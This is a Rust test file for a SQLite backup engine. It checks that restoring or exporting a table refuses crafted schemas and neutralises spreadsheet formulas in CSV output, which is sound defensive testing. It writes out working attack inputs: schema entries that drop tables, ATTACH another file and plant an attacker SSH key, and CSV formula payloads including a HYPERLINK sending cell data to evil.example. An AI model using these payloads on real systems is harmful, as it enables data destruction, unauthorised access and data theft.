//! A backup's schema is input from outside. SQLite parses only the first statement of each
//! `sqlite_schema.sql` when it loads a schema (and `integrity_check` says ok), so a crafted
//! database can carry `DROP TABLE`, `COMMIT` or `ATTACH` after a table's `CREATE TABLE`. These
//! tests craft such databases, back them up through the engine, and check that taking back one
//! table or exporting it as a database runs none of it: a clear `unsafe_schema` error, the live
//! database, an unrelated SQLite file and the file system left as they were.
#![allow(clippy::unwrap_used)]

mod common;

use std::path::Path;

use common::*;
use keepsake_engine::error::Reason;
use keepsake_engine::{ErrorCode, RestoreOptions};
use rusqlite::Connection;

fn only(table: &str) -> RestoreOptions {
    RestoreOptions { source_encrypts: false, tables: vec![table.to_owned()], ..RestoreOptions::default() }
}

/// A database with `victim` (an ordinary table) and `t` (the one to take back), whose
/// `sqlite_schema.sql` for `name` is then replaced by `sql`, as an attacker would.
fn crafted(path: &Path, name: &str, sql: &str) {
    let c = Connection::open(path).unwrap();
    c.execute_batch(
        "CREATE TABLE victim (id INTEGER PRIMARY KEY, secret TEXT);
         INSERT INTO victim (secret) VALUES ('keep me'), ('and me');
         CREATE TABLE t (a);
         CREATE INDEX t_a ON t(a);
         INSERT INTO t VALUES (1), (2), (3);",
    )
    .unwrap();
    c.execute_batch("PRAGMA writable_schema = ON").unwrap();
    c.execute("UPDATE sqlite_schema SET sql = ?1 WHERE name = ?2", [sql, name]).unwrap();
    c.execute_batch("PRAGMA writable_schema = OFF").unwrap();
    drop(c);
    // Reopened, SQLite reads the crafted schema without complaint.
    let c = Connection::open(path).unwrap();
    let ok: String = c.query_row("PRAGMA integrity_check", [], |r| r.get(0)).unwrap();
    assert_eq!(ok, "ok", "the crafted database looks sound to SQLite");
}

/// Another SQLite file of the person's, which an `ATTACH` in the schema aims at.
fn unrelated(path: &Path) {
    Connection::open(path)
        .unwrap()
        .execute_batch("CREATE TABLE precious (x); INSERT INTO precious VALUES ('mine');")
        .unwrap();
}

fn table_names(path: &Path) -> Vec<String> {
    let c = Connection::open(path).unwrap();
    let mut stmt = c.prepare("SELECT name FROM sqlite_schema WHERE type = 'table' ORDER BY name").unwrap();
    stmt.query_map([], |r| r.get(0)).unwrap().collect::<rusqlite::Result<_>>().unwrap()
}

fn count(path: &Path, table: &str) -> i64 {
    Connection::open(path)
        .unwrap()
        .query_row(&format!("SELECT count(*) FROM {table}"), [], |r| r.get(0))
        .unwrap()
}

fn assert_unsafe(err: &keepsake_engine::Error) {
    assert_eq!(err.code(), ErrorCode::BackupDamaged, "{err}");
    assert_eq!(err.facts().reason, Some(Reason::UnsafeSchema), "{err}");
    assert_eq!(err.facts().tables, vec!["t".to_owned()]);
    assert!(err.message().contains("\"t\""), "names the table: {err}");
}

#[test]
fn a_table_taken_back_runs_nothing_after_its_create_table() {
    let env = Env::new();
    let other = env.dir.path().join("other.db");
    unrelated(&other);
    let sql = format!(
        "CREATE TABLE t (a); DROP TABLE victim; COMMIT; ATTACH '{}' AS y; DROP TABLE y.precious; CREATE TABLE y.z (q); BEGIN",
        other.display()
    );
    crafted(&env.db, "t", &sql);
    let e = env.engine();
    let backup = e.backup(&env.db, &opts(false, true), &job()).unwrap();
    // The table is gone from the live database, so taking it back creates it from the backup.
    Connection::open(&env.db).unwrap().execute_batch("DROP TABLE t").unwrap();

    let err = e.restore(&backup.id, &env.db, &only("t"), &job()).unwrap_err();
    assert_unsafe(&err);
    assert_eq!(table_names(&env.db), ["victim"], "no table dropped, none created");
    assert_eq!(count(&env.db, "victim"), 2);
    assert_eq!(table_names(&other), ["precious"], "the attached file untouched");
    assert_eq!(count(&other, "precious"), 1);
}

#[test]
fn an_index_definition_with_a_tail_is_refused_too() {
    let env = Env::new();
    crafted(&env.db, "t_a", "CREATE INDEX t_a ON t(a); DROP TABLE victim");
    let e = env.engine();
    let backup = e.backup(&env.db, &opts(false, true), &job()).unwrap();
    Connection::open(&env.db).unwrap().execute_batch("DROP TABLE t").unwrap();

    let err = e.restore(&backup.id, &env.db, &only("t"), &job()).unwrap_err();
    assert_unsafe(&err);
    assert_eq!(table_names(&env.db), ["victim"], "t not half made, victim kept");
    assert_eq!(count(&env.db, "victim"), 2);
}

#[test]
fn a_single_statement_that_is_not_the_tables_own_definition_is_refused() {
    // One statement, no tail, and SQLite loads the schema, but the table would be made in the
    // temporary schema, not where Keepsake puts it back. (SQLite itself refuses to load a
    // definition naming another table or schema, or `AS SELECT`.)
    let env = Env::new();
    crafted(&env.db, "t", "CREATE TEMP TABLE t (a)");
    let e = env.engine();
    let backup = e.backup(&env.db, &opts(false, true), &job()).unwrap();
    Connection::open(&env.db).unwrap().execute_batch("DROP TABLE t").unwrap();

    let err = e.restore(&backup.id, &env.db, &only("t"), &job()).unwrap_err();
    assert_unsafe(&err);
    assert_eq!(table_names(&env.db), ["victim"]);
    assert!(err.message().contains("temp"), "says what it would do: {err}");
}

#[test]
fn an_export_as_a_database_cannot_write_a_file_elsewhere() {
    let env = Env::new();
    let ssh = tempfile::tempdir().unwrap();
    let keys = ssh.path().join("authorized_keys");
    let sql = format!(
        "CREATE TABLE t (a); COMMIT; ATTACH '{}' AS k; CREATE TABLE k.x (key); INSERT INTO k.x VALUES ('ssh-ed25519 AAAA attacker'); BEGIN",
        keys.display()
    );
    crafted(&env.db, "t", &sql);
    let e = env.engine();
    let backup = e.backup(&env.db, &opts(false, true), &job()).unwrap();
    let view = e.open_backup(&backup.id, &job()).unwrap();
    let out = tempfile::tempdir().unwrap();
    let dest = out.path().join("t.sqlite");

    let err = view.export_database("t", &dest).unwrap_err();
    assert_unsafe(&err);
    assert!(!keys.exists(), "no file created through ATTACH");
    assert!(!dest.exists(), "no export");
    assert_eq!(std::fs::read_dir(out.path()).unwrap().count(), 0, "no temporary file left");
}

#[test]
fn an_ordinary_table_with_constraints_and_indexes_still_comes_back_and_exports() {
    // What the authorizer allows must cover real definitions: keys, checks, defaults, generated
    // columns, WITHOUT ROWID, unique and partial and expression indexes.
    let env = Env::new();
    let c = Connection::open(&env.db).unwrap();
    c.execute_batch(
        "CREATE TABLE parent (id INTEGER PRIMARY KEY);
         INSERT INTO parent VALUES (1);
         CREATE TABLE t (id INTEGER PRIMARY KEY, a TEXT NOT NULL DEFAULT (lower('X')) CHECK (length(a) < 10),
                         b REAL GENERATED ALWAYS AS (id * 2) STORED, p REFERENCES parent(id), UNIQUE (a, b));
         CREATE UNIQUE INDEX t_lower ON t(lower(a)) WHERE b > 0;
         CREATE INDEX t_ab ON t(a, b);
         CREATE TABLE w (k TEXT PRIMARY KEY, v) WITHOUT ROWID;
         INSERT INTO t (a, p) VALUES ('one', 1), ('two', 1);
         INSERT INTO w VALUES ('k', 'v');",
    )
    .unwrap();
    drop(c);
    let e = env.engine();
    let backup = e.backup(&env.db, &opts(false, true), &job()).unwrap();
    let before = table_names(&env.db);
    Connection::open(&env.db).unwrap().execute_batch("DROP TABLE t; DROP TABLE w").unwrap();

    let out = e
        .restore(
            &backup.id,
            &env.db,
            &{
                let mut o = only("t");
                o.tables.push("w".to_owned());
                o
            },
            &job(),
        )
        .unwrap();
    assert_eq!(out.tables.len(), 2);
    assert_eq!(table_names(&env.db), before);
    assert_eq!(count(&env.db, "t"), 2);
    let indexes: i64 = Connection::open(&env.db)
        .unwrap()
        .query_row("SELECT count(*) FROM sqlite_schema WHERE type = 'index' AND tbl_name = 't'", [], |r| {
            r.get(0)
        })
        .unwrap();
    assert_eq!(indexes, 3, "its two indexes and the UNIQUE constraint's");

    let view = e.open_backup(&backup.id, &job()).unwrap();
    let dir = tempfile::tempdir().unwrap();
    assert_eq!(view.export_database("t", &dir.path().join("t.sqlite")).unwrap(), 2);
    assert_eq!(view.export_database("w", &dir.path().join("w.sqlite")).unwrap(), 1);
}

#[test]
fn a_csv_for_a_spreadsheet_holds_no_formula_and_the_csv_for_programs_stays_exact() {
    let env = Env::new();
    let c = Connection::open(&env.db).unwrap();
    c.execute_batch("CREATE TABLE cells (\"=cmd|' /C calc'!A0\" TEXT, n)").unwrap();
    for (text, n) in [
        ("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", -12.5),
        ("+1+1", 3.0),
        ("@SUM(A1)", -1.0),
        ("\t=1", 0.0),
        ("plain", 1.0),
    ] {
        c.execute("INSERT INTO cells VALUES (?1, ?2)", rusqlite::params![text, n]).unwrap();
    }
    drop(c);
    let e = env.engine();
    let backup = e.backup(&env.db, &opts(false, true), &job()).unwrap();
    let view = e.open_backup(&backup.id, &job()).unwrap();
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("cells.csv");
    assert_eq!(view.export_csv_file("cells", &file).unwrap(), 5);
    let sheet: Vec<Vec<String>> = csv::Reader::from_path(&file)
        .unwrap()
        .into_records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect();
    let header = csv::Reader::from_path(&file).unwrap().headers().unwrap().clone();
    assert_eq!(&header[0], "'=cmd|' /C calc'!A0");
    assert_eq!(
        sheet,
        [
            ["'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "-12.5"],
            ["'+1+1", "3"],
            ["'@SUM(A1)", "-1"],
            ["'\t=1", "0"],
            ["plain", "1"],
        ]
    );
    // `show --csv` is data for programs: exact.
    let mut exact = Vec::new();
    view.export_csv("cells", &mut exact).unwrap();
    let exact = String::from_utf8(exact).unwrap();
    assert!(exact.contains("=HYPERLINK(") && !exact.contains("'=HYPERLINK"), "{exact}");
}
